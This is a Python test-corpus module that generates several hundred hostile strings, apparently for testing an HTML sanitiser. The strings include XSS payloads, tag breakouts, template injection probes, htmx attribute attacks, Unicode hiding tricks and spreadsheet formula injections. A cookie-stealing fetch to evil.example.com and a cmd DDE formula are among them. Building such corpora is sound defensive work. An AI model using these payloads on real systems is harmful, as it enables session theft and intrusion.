"""Texts that try to become markup, script, style, address, or something that a reader cannot see. At least 200."""
# ruff: noqa: E501 - a corpus reads best in rows

_SCRIPTS = ("alert(1)", "confirm`1`", "prompt(document.cookie)", "fetch('https://evil.example.com/'+document.cookie)")
_EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter",
    "onbegin", "onstart", "onblur", "onkeydown", "oncopy", "onwheel", "onauxclick", "onbeforetoggle",
)  # fmt: skip
_TAGS = (
    "img src=x", "svg", "body", "iframe src=about:blank", "video src=x", "audio src=x", "details open", "input autofocus",
    "select autofocus", "marquee", "object data=x", "embed src=x",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example.com/x", "https://evil.example.com/x", "\\\\evil.example.com\\x", "blob:https://evil.example.com/1",
)  # fmt: skip
_BREAKOUTS = (
    '">', "'>", "</textarea>", "</title>", "</style>", "</script>", "-->", "]]>", "</option></select>", "</td></table>",
    "`>", '" ', "' ", "</template>", "</noscript>", "</svg>",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{% print 7*7 %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{{''.__class__.__mro__}}",
    "{#", "{{", "}}", "{% raw %}", "[[7*7]]",
)  # fmt: skip
_HTMX = (
    '<div hx-get="https://evil.example.com" hx-trigger="load">', '<div hx-on:click="alert(1)">',
    '<div hx-on::load="alert(1)">', '<div data-hx-get="//evil.example.com" data-hx-trigger="load">',
    '<div sse-connect="https://evil.example.com">', "<div hx-vals='js:{a:alert(1)}' hx-get=/ hx-trigger=load>",
    '<button data-key="c">c</button>', '<form hx-post="/desk/sign-out" hx-trigger="load">',
    '<div id="fault">', '<input name="csrf" value="x">', '<base href="https://evil.example.com/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example.com">',
    '<link rel="stylesheet" href="https://evil.example.com/a.css">', '<link rel="prefetch" href="//evil.example.com">',
    "<style>@import 'https://evil.example.com/a.css';</style>", '<p style="background:url(//evil.example.com/a)">',
    '<form action="https://evil.example.com"><button>Sign in</button></form>', "<plaintext>", "<xmp>", "<noscript>",
    '<a href="https://evil.example.com" ping="https://evil.example.com">x</a>', '<img srcset="//evil.example.com/a 1x">',
    '<svg><use href="//evil.example.com/a.svg#x"></svg>', "<math><mtext><script>alert(1)</script></mtext></math>",
    "<svg><script>alert(1)</script></svg>", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style>", "<form id=x><input name=innerHTML>",
    "<a name=currentScript>", "<img name=body>", "<iframe name=top>",
)  # fmt: skip
_BYTES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x3c;script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</script>", "<\u202escript>alert(1)", "<script\x0b>alert(1)</script>", "<img\x0csrc=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<ſcript>alert(1)</ſcript>", "<ıframe>", "\ufeff<script>alert(1)</script>",
)  # fmt: skip
HIDDEN = (
    "refund \u202etnemyap\u202c", "a\u200bb", "a\u200cb", "a\u200db", "\u2066x\u2069", "\u2067x\u2069", "x\u2060y", "\ufeffx",
    "x\u00ady", "\u061cx", "x\u180ey", "\u3164x", "x\U000e0041\U000e0042", "\u202dx", "\u2028x", "\u2029x", "x\u0085y",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("https://evil.example.com","x")', "=cmd|'/C calc'!A0", "\t=1+1",
    "\r=1+1", "＝1+1", "\u200b=1+1", " =1+1", '=IMPORTXML("https://evil.example.com","/")', "|calc", "%0A=1+1",
    '"=1+1', "=1+1;", ";=1+1", "＠SUM(1)", "－1", "＋1",
)  # fmt: skip

CORPUS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(f"<script>{script}</script>" for script in _SCRIPTS),
            *(f"<{tag} {event}={_SCRIPTS[0]}>" for tag in _TAGS for event in _EVENTS[:8]),
            *(f"{breakout}<img src=x onerror=alert(1)>" for breakout in _BREAKOUTS),
            *(f'{breakout} {event}=alert(1) x="' for breakout in _BREAKOUTS[:2] for event in _EVENTS),
            *(f'<a href="{scheme}">x</a>' for scheme in _SCHEMES),
            *(f'<iframe src="{scheme}"></iframe>' for scheme in _SCHEMES),
            *(f"<img src='{scheme}'>" for scheme in _SCHEMES),
            *_SCHEMES, *_TEMPLATES, *_HTMX, *_BYTES, *HIDDEN, *FORMULAS,
        ]
    )
)  # fmt: skip
